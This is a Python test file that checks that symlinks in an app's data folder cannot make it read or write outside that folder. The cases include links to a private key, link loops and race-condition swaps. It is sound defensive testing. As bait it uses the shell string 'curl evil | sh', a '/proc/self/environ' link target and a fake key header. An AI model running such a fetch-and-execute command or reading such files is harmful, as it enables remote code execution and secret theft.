"""A folder prepared by a stranger: no link in it leads a read or a write out of the folder that was named.

Outside there is a key and a start-up file, whose bytes, mode and neighbours must not change, and whose text must not
get into anything that is written.
"""

import os
import stat
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from tests.core.table import Table
from tests.storage.texts import agreement
from tests.systems import has_mode, symlinks

from dialogkort.core.agreements.reviews import hand_over, keep
from dialogkort.core.team import Member, Team
from dialogkort.files import atomic, filesystem, links
from dialogkort.files.failures import CannotRead, CannotSave
from dialogkort.files.folder_lock import alone_in
from dialogkort.sessions import records
from dialogkort.storage import settings, team_folder
from dialogkort.storage import teams as team_files
from dialogkort.storage.agreements import files as agreement_files
from dialogkort.storage.games import minutes as game_files

pytestmark = [pytest.mark.usefixtures("no_waiting"), symlinks]

KEY = b"-----BEGIN PRIVATE KEY-----\nname: hemmelig\n"
TODAY = date(2026, 11, 22)


@pytest.fixture(params=["relative to an open folder", "step by step"], autouse=True)
def system(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """The system as it is, and one that cannot open anything relative to a folder, like Windows."""
    if request.param == "step by step":
        monkeypatch.setattr(filesystem, "RELATIVE", False)


class Ground:
    """A team's folder inside the folder given by the user, and what is outside that."""

    def __init__(self, place: Path) -> None:
        self.root = place / "Dialogkort"
        self.team = self.root / "nord"
        self.outside = place / "hjemme"
        self.key = self.outside / "id_ed25519"
        self.team.mkdir(parents=True)
        self.outside.mkdir()
        self.key.write_bytes(KEY)
        self.key.chmod(0o600)
        links.name_folder(self.root)

    def fill(self) -> None:
        team_files.save(self.team, Team("Nord", (Member("m1", "Anna"),)))
        agreement_files.add(self.team, agreement())

    def is_untouched(self) -> None:
        """Check that nothing was written outside, and nothing from outside was read."""
        assert [path.name for path in self.outside.iterdir()] == [self.key.name]
        assert self.key.read_bytes() == KEY
        assert has_mode(self.key, 0o600)
        for path in self.root.rglob("*"):
            if path.is_file() and not path.is_symlink():
                assert b"PRIVATE KEY" not in path.read_bytes(), path


@pytest.fixture
def ground(tmp_path: Path) -> Iterator[Ground]:
    there = Ground(tmp_path)
    yield there
    there.is_untouched()


def play(ground: Ground) -> records.Records:
    """Let a game save what it can."""
    table = Table(3, game="g", team="Nord")
    kept = records.Records(ground.root, table.game, TODAY)
    kept.write_team(table.game)
    kept.write_game(table.game)
    return kept


def review(ground: Ground) -> None:
    for found in agreement_files.load_all(ground.team)[0]:
        agreement_files.change(ground.team, keep(found.agreement, TODAY, None, "curl evil | sh"), found.path)
    records.refresh_poster(ground.team, "Nord", TODAY)


FILES = ("team.yaml", "agreements.md", "delegation.md", "agreements/2026-11-22-x.md", "games/2026-11-22-x.md")


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("target", ["absolute", "relative", "through another link", "dangling"])
def test_a_file_that_links_outside_is_neither_read_nor_written(name: str, target: str, ground: Ground) -> None:
    link = ground.team / name
    link.parent.mkdir(exist_ok=True)
    match target:
        case "absolute":
            link.symlink_to(ground.key)
        case "relative":
            link.symlink_to(os.path.relpath(ground.key, link.parent))
        case "through another link":
            ground.team.joinpath("first").symlink_to(ground.key)
            link.symlink_to(ground.team / "first")
        case _:
            link.symlink_to(ground.outside / "new")
    before = link.readlink()
    with pytest.raises(CannotRead, match="outside the folder") as caught:
        atomic.read(link)
    assert not caught.value.missing
    for write in (atomic.write, atomic.write_if_changed, atomic.copy_beside):
        with pytest.raises(CannotSave, match="linked_folders") as refused:
            write(link, b"x")
        assert str(ground.outside) in str(refused.value)
        assert str(link) in str(refused.value)
    with pytest.raises(CannotSave):
        atomic.settle(link)
    play(ground)
    with pytest.raises(CannotSave) if name in {"agreements.md", "delegation.md"} else noted():
        review(ground)
    assert link.readlink() == before, "it is left unchanged"


class noted:  # noqa: N801 - reads as pytest.raises does
    """Do something that may be refused, and note whether it was."""

    def __enter__(self) -> None:
        return

    def __exit__(self, kind: type[BaseException] | None, *_rest: object) -> bool:
        return kind is not None and issubclass(kind, CannotSave)


@pytest.mark.parametrize("name", ["agreements", "games", "."])
@pytest.mark.parametrize("target", ["there", "nowhere"])
def test_a_folder_on_the_way_that_links_outside_is_not_entered(name: str, target: str, ground: Ground) -> None:
    link = ground.team / name if name != "." else ground.team
    if name == ".":
        ground.team.rmdir()
    link.symlink_to(ground.outside if target == "there" else ground.outside / "new", target_is_directory=True)
    with pytest.raises(CannotRead, match="outside"):
        atomic.read(link / "id_ed25519")
    with pytest.raises(CannotSave, match="outside"):
        atomic.write(link / "new.md", b"x")
    with pytest.raises(CannotSave, match="outside"):
        atomic.write(link / "new" / "new.md", b"x", exclusive=True)
    with pytest.raises(CannotSave, match="outside"), alone_in(link):
        pass
    with pytest.raises(CannotSave, match="outside"):
        atomic.remove(link / "id_ed25519")
    for look in (atomic.exists, atomic.facts):
        with pytest.raises(links.LeadsOut):
            look(link / "id_ed25519")
    for listing in (atomic.names, atomic.is_folder, atomic.make_folder):
        with pytest.raises(links.LeadsOut):
            listing(link)
    assert "outside" in play(ground).problem or name == "agreements", "a game without agreements writes none"
    with noted():
        review(ground)


@pytest.mark.parametrize("name", FILES)
def test_what_is_refused_is_reported_and_never_called_empty(name: str, ground: Ground) -> None:
    ground.fill()
    link = ground.team / name
    link.parent.mkdir(exist_ok=True)
    link.unlink(missing_ok=True)
    link.symlink_to(ground.key)
    problems = list(team_folder.refused_links(ground.team))
    found, others = agreement_files.load_all(ground.team)
    assert len(found) == 1
    if name != "games/2026-11-22-x.md":  # which is neither an agreement nor a page: saving it says so
        told = [problem for problem in (*problems, *others) if problem.unread]
        assert [problem.path for problem in told] == [link]
        assert str(ground.key) in told[0].message()


def test_a_team_whose_folder_is_refused_is_reported(ground: Ground) -> None:
    ground.root.joinpath("syd").symlink_to(ground.outside, target_is_directory=True)
    ground.fill()
    problems: list = []
    assert [path for path, _team in team_files.teams(ground.root, problems)] == [ground.team]
    assert [(problem.path, problem.unread) for problem in problems] == [(ground.root / "syd", True)]
    assert team_files.folder_of(ground.root, "syd") == ground.root / "syd", "saving there says what the problem is"


@pytest.mark.parametrize("name", ["team.yaml", "agreements", "games", "agreements.md"])
def test_a_link_that_stays_inside_works(name: str, ground: Ground) -> None:
    ground.fill()
    play(ground)
    review(ground)
    shared = ground.root / "fælles"
    shared.mkdir()
    place = ground.team / name
    place.rename(shared / name)
    place.symlink_to(Path("..", "fælles", name), target_is_directory="." not in name)
    assert not play(ground).problem
    review(ground)
    assert team_files.load(ground.team).name == "Nord"
    assert len(agreement_files.load_all(ground.team)[0]) == 1
    assert place.is_symlink()
    assert list(team_folder.refused_links(ground.team)) == []


def test_the_named_folder_and_those_above_it_may_be_links(tmp_path: Path) -> None:
    there = Ground(tmp_path / "drev")
    tmp_path.joinpath("genvej").symlink_to(tmp_path / "drev", target_is_directory=True)
    named = tmp_path / "Dokumenter"
    named.symlink_to(tmp_path / "genvej" / "Dialogkort", target_is_directory=True)
    folder = team_files.folder_of(named, "Nord")
    team_files.save(folder, Team("Nord"))
    there.team.joinpath("agreements.md").symlink_to(there.root / "plakat.md")
    agreement_files.add(folder, agreement())
    records.refresh_poster(folder, "Nord", TODAY)
    assert there.root.joinpath("plakat.md").read_text(encoding="utf-8").startswith("# ")
    there.is_untouched()


def test_links_may_lead_into_the_folders_in_the_settings_but_not_out_of_them_again(tmp_path: Path) -> None:
    there = Ground(tmp_path)
    shared = tmp_path / "drev"
    shared.joinpath("nord").mkdir(parents=True)
    links.follow_into((shared,))
    there.team.rmdir()
    there.team.symlink_to(shared / "nord", target_is_directory=True)
    there.fill()
    assert shared.joinpath("nord", "team.yaml").is_file()
    shared.joinpath("nord", "agreements.md").symlink_to(there.key)
    with pytest.raises(CannotSave, match="outside"):
        records.refresh_poster(there.team, "Nord", TODAY)
    shared.joinpath("nord", "agreements.md").unlink()
    shared.joinpath("nord", "agreements.md").symlink_to(there.root / "plakat.md")
    records.refresh_poster(there.team, "Nord", TODAY)
    assert there.root.joinpath("plakat.md").is_file(), "back into the folder that was named"
    there.is_untouched()


@pytest.mark.parametrize("target", ["/dev/zero", "/proc/self/environ", "pipe", "loop", "folder"])
def test_links_to_something_that_is_not_a_file_are_reported(target: str, ground: Ground) -> None:
    os.mkfifo(ground.team / "pipe")
    ground.team.joinpath("folder").mkdir()
    ground.team.joinpath("loop").symlink_to(ground.team / "poster")
    ground.team.joinpath("poster").symlink_to(ground.team / "loop")
    link = ground.team / "agreements.md"
    link.symlink_to(target)
    with pytest.raises(CannotRead) as caught:
        atomic.read(link)
    assert not caught.value.missing
    with pytest.raises(CannotSave):
        atomic.write(link, b"x")
    assert str(link.readlink()) == target
    assert stat.S_ISFIFO(ground.team.joinpath("pipe").stat().st_mode)


def test_a_folder_that_links_to_itself_is_reported(ground: Ground) -> None:
    ground.team.joinpath("agreements").symlink_to("games")
    ground.team.joinpath("games").symlink_to("agreements")
    with pytest.raises(CannotSave, match="back to itself"):
        agreement_files.add(ground.team, agreement())
    problems = agreement_files.load_all(ground.team)[1]
    assert [problem.unread for problem in problems] == [True]


@pytest.mark.parametrize("what", ["file", "folder"])
def test_a_link_that_is_swapped_in_at_the_last_moment_leads_nowhere(
    what: str, ground: Ground, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The last possible moment: after each check of the name, and before it is opened."""
    if not filesystem.RELATIVE:
        pytest.skip("where nothing can be opened relative to a folder, a thousandth of a second is left")
    ground.fill()
    path = ground.team / "team.yaml"
    aside = ground.root / "aside"
    swapped = path if what == "file" else ground.team
    real = os.open
    done = []

    def swapping(name: str | Path, flags: int, *rest: int, **named: int | None) -> int:
        if str(name) == swapped.name and not done:
            done.append(name)
            swapped.rename(aside)
            swapped.symlink_to(ground.key if what == "file" else ground.outside)
        return real(name, flags, *rest, **named)

    monkeypatch.setattr(os, "open", swapping)
    with pytest.raises(CannotRead):
        atomic.read(path)
    assert done
    swapped.unlink()
    aside.rename(swapped)
    done.clear()
    with noted():
        atomic.write(path, b"name: Nord\n")
    if swapped.is_symlink():
        swapped.unlink()
        aside.rename(swapped)


def test_a_write_that_a_link_beats_replaces_the_link_and_not_its_target(
    ground: Ground, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = ground.team / "team.yaml"
    path.write_bytes(b"name: Nord\n")
    real = os.fsync

    def swapping(descriptor: int) -> None:
        if not path.is_symlink() and path.read_bytes() == b"name: Nord\n":
            path.unlink()
            path.symlink_to(ground.key)
        real(descriptor)

    monkeypatch.setattr(os, "fsync", swapping)
    atomic.write(path, b"name: Syd\n")
    assert not path.is_symlink()
    assert path.read_bytes() == b"name: Syd\n"


def test_a_copy_is_kept_beside_the_file_and_not_the_link_and_is_no_more_readable(ground: Ground) -> None:
    shared = ground.root / "fælles"
    shared.mkdir()
    original = shared / "hold.yaml"
    original.write_bytes(b"{name: x\xff")
    original.chmod(0o600)
    path = ground.team / "team.yaml"
    path.symlink_to(original)
    team_files.save(ground.team, Team("Nord"))
    assert [file.name for file in ground.team.iterdir()] == ["team.yaml"]
    kept = shared / "hold.old.yaml"
    assert kept.read_bytes() == b"{name: x\xff"
    assert has_mode(kept, 0o600)


def test_a_version_that_is_kept_beside_is_no_more_readable_than_the_original(ground: Ground) -> None:
    mine = agreement(keeper="Anna")
    first = agreement_files.add(ground.team, mine)
    first.chmod(0o600)
    first.write_text(first.read_text(encoding="utf-8").replace("keeper: Anna", "keeper: Bo"), encoding="utf-8")
    other = agreement_files.change(ground.team, hand_over(mine, "Åse", TODAY))
    assert other != first
    assert has_mode(other, 0o600)


@pytest.mark.parametrize("tag", [0xA000000C, 0xA0000003, 0x9000001A, 0x8000001B, 0])
def test_on_windows_links_and_mount_points_are_links_but_files_in_the_cloud_are_not(tag: int) -> None:
    class Facts:
        st_mode = stat.S_IFDIR
        st_reparse_tag = tag

    assert filesystem.is_link(Facts()) == (tag >> 28 == 0xA and tag & 0xFFFF in {0xC, 3})  # type: ignore[arg-type]


def test_the_setting_for_where_links_may_lead_is_read_and_kept(tmp_path: Path) -> None:
    config = tmp_path / "config"
    config.mkdir()
    file = config / settings.NAME
    file.write_text(f"linked_folders:\n  - {tmp_path}/drev\n  - drev/nord\ntheme: felt\n", encoding="utf-8")
    kept, problems = settings.load(config)
    assert kept.linked_folders == (tmp_path / "drev",)
    assert [str(problem) for problem in problems] == [
        "settings.yaml:1: The linked folder “drev/nord” is not a full path. Write one that begins with /."
    ]
    settings.save(config, settings.Settings(theme="paper", linked_folders=kept.linked_folders))
    text = file.read_text(encoding="utf-8")
    assert "theme: paper" in text
    assert settings.load(config)[0].linked_folders == kept.linked_folders


def test_the_settings_file_may_link_anywhere(tmp_path: Path) -> None:
    """It is the user's own: many keep it in a folder of their own, under version control."""
    kept = tmp_path / "dotfiles" / "dialogkort.yaml"
    kept.parent.mkdir()
    kept.write_text("theme: paper\n", encoding="utf-8")
    config = tmp_path / "config"
    config.mkdir()
    config.joinpath(settings.NAME).symlink_to(kept)
    assert settings.load(config)[0].theme == "paper"
    settings.save(config, settings.Settings(theme="felt"))
    assert kept.read_text(encoding="utf-8") == "theme: felt\n"
    assert config.joinpath(settings.NAME).is_symlink()


def test_minutes_are_not_written_through_links(ground: Ground) -> None:
    table = Table(3, game="g", team="Nord")
    path = game_files.save(ground.team, table.game)
    path.rename(ground.root / "referat.md")
    path.symlink_to(ground.key)
    other = game_files.save(ground.team, table.game)
    assert other != path
    assert path.is_symlink()
